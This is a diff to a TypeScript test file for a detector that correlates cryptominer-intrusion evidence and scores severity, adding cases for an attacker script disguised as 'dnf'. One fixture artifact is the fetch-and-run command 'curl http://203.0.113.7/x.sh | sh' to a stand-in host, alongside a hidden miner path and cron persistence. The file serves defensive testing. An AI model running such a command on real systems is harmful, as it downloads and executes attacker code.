@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
+import { linkKeyOf } from '#shared/context/link-key.ts';
 import { correlate } from '#shared/correlate/correlate.ts';
 import { DEFAULT_MATRIX } from '#shared/correlate/matrix.ts';
 import type { Evidence, Minutes } from '#shared/model/evidence.ts';
@@ -103,6 +104,41 @@ describe('linked sets', () => {
     assert.equal(severityOf([miner, pool, ...upgrade]), 'Medium');
   });
 
+  describe("an attacker's script that passes for dnf", () => {
+    const WALLET = 'wallet:48ed';
+    const disguised = (path: string): LinkKey =>
+      linkKeyOf({
+        executable: '/usr/bin/python3.9',
+        name: 'dnf',
+        argv: ['/usr/bin/python3', path],
+        exact: true,
+        uid: '0',
+      });
+    const hisMiner = act('miner_execution', '-', {
+      artifacts: ['path:/opt/.x/netd', WALLET, 'url:http://203.0.113.7/x.sh', 'cmd:curl http://203.0.113.7/x.sh | sh'],
+    });
+
+    test('counts beside his miner from every folder but those of the distribution', () => {
+      for (const folder of ['/tmp', '/root', '/home/ubuntu', '/usr/local/bin', '/opt/.x', '/dev/shm', '/usr/bin/.x']) {
+        const cron = act('persistence_setup', disguised(`${folder}/dnf`), { artifacts: ['path:/etc/cron.d/sync'] });
+        assert.equal(severityOf([hisMiner, pool, cron]), 'High', folder);
+      }
+    });
+
+    test("joins the miner from the distribution's folder by whatever both name, and is shown where they name nothing", () => {
+      const key = disguised('/usr/bin/dnf');
+      assert.equal(key, 'pkg');
+      for (const shared of hisMiner.artifacts) {
+        const cron = act('persistence_setup', key, { artifacts: ['path:/etc/cron.d/sync', shared] });
+        assert.equal(severityOf([hisMiner, pool, cron]), 'High', shared);
+      }
+      const unseen = act('persistence_setup', key, { artifacts: ['path:/etc/cron.d/sync'] });
+      const finding = episodeOf([hisMiner, pool, unseen])?.snapshot;
+      assert.equal(finding?.severity, 'Medium');
+      assert.match(finding?.leftOut[0]?.why ?? '', /package/);
+    });
+  });
+
   test('keys beyond the cap link by artifact alone', () => {
     assert.equal(severityOf([miner, pool, act('persistence_setup', '+')]), 'Medium');
     assert.equal(
@@ -154,8 +190,8 @@ describe('scopes', () => {
   });
 
   test('the launch on the host moves to the container that it started', () => {
-    const launch = act('miner_execution', 'ses:3', { flags: ['launch'], artifacts: ['wallet:48edf'] });
-    const evidence = [minerIn('0123456789ab', ['wallet:48edf']), launch, wire()];
+    const launch = act('miner_execution', 'ses:3', { flags: ['launch'], artifacts: ['wallet:48ed'] });
+    const evidence = [minerIn('0123456789ab', ['wallet:48ed']), launch, wire()];
     assert.equal(severityOf(evidence, '0123456789ab'), 'Medium');
     assert.equal(episodeOf(evidence, 'host'), undefined);
   });
@@ -166,13 +202,13 @@ describe('scopes', () => {
       act(group, 'ses:3', { rule: `launch_${group}`, flags: ['launch'], events: ['launch'], artifacts, ...change });
     const restart = launched('persistence_setup', ['image:a/xmrig'], { flags: ['launch', 'write'] });
     const image = launched('miner_execution', ['image:a/xmrig'], { rule: 'by_image' });
-    const wallet = launched('miner_execution', ['image:a/xmrig', 'wallet:48edf']);
+    const wallet = launched('miner_execution', ['image:a/xmrig', 'wallet:48ed']);
     const pool = inScope(INSIDE, act('pool_connection', '-', { events: ['inside'] }));
     const inside = (artifacts: Artifact[]): Evidence =>
       inScope(INSIDE, act('miner_execution', '-', { events: ['inside'], artifacts }));
 
     test('all that one launch says moves with the part that names the wallet', () => {
-      const evidence = [inside(['wallet:48edf']), pool, wallet, image, restart];
+      const evidence = [inside(['wallet:48ed']), pool, wallet, image, restart];
       assert.equal(severityOf(evidence, INSIDE), 'High');
       assert.equal(episodeOf(evidence, 'host'), undefined);
     });
@@ -187,18 +223,18 @@ describe('scopes', () => {
 
     test('another image, another event and a launch with no miner inside stay with the host', () => {
       const other = { ...restart, ...launched('persistence_setup', ['image:a/web'], { events: ['other'] }) };
-      const evidence = [inside(['wallet:48edf', 'image:b/xmrig']), pool, image, restart];
+      const evidence = [inside(['wallet:48ed', 'image:b/xmrig']), pool, image, restart];
       assert.equal(severityOf(evidence, INSIDE), 'Medium');
       assert.equal(severityOf(evidence, 'host'), 'Low');
-      assert.equal(severityOf([inside(['wallet:48edf']), pool, wallet, other], INSIDE), 'Medium');
+      assert.equal(severityOf([inside(['wallet:48ed']), pool, wallet, other], INSIDE), 'Medium');
       const idle = inScope(INSIDE, act('persistence_setup', '-', { artifacts: ['image:a/xmrig'] }));
       assert.equal(severityOf([idle, image, restart], 'host'), 'Low');
     });
 
     test('beside a miner process of the host the whole launch stays there too', () => {
       const evidence = [
-        ...[inside(['wallet:48edf']), pool, wallet, image, restart],
-        act('miner_execution', 'ses:3', { rule: 'own', events: ['own'], artifacts: ['wallet:48edf'] }),
+        ...[inside(['wallet:48ed']), pool, wallet, image, restart],
+        act('miner_execution', 'ses:3', { rule: 'own', events: ['own'], artifacts: ['wallet:48ed'] }),
       ];
       assert.equal(severityOf(evidence, INSIDE), 'High');
       assert.equal(severityOf(evidence, 'host'), 'Low');
@@ -207,14 +243,14 @@ describe('scopes', () => {
   });
 
   test('a launch that no container answers stays with the host', () => {
-    const launch = act('miner_execution', 'ses:3', { flags: ['launch'], artifacts: ['wallet:48edf'] });
+    const launch = act('miner_execution', 'ses:3', { flags: ['launch'], artifacts: ['wallet:48ed'] });
     assert.equal(severityOf([launch, wire()]), 'Medium');
   });
 
   test('a miner process of the host is always a finding of the host', () => {
     const evidence = [
-      minerIn('0123456789ab', ['wallet:48edf']),
-      act('miner_execution', '-', { artifacts: ['wallet:48edf'] }),
+      minerIn('0123456789ab', ['wallet:48ed']),
+      act('miner_execution', '-', { artifacts: ['wallet:48ed'] }),
       wire(),
     ];
     assert.equal(severityOf(evidence, 'host'), 'Medium');
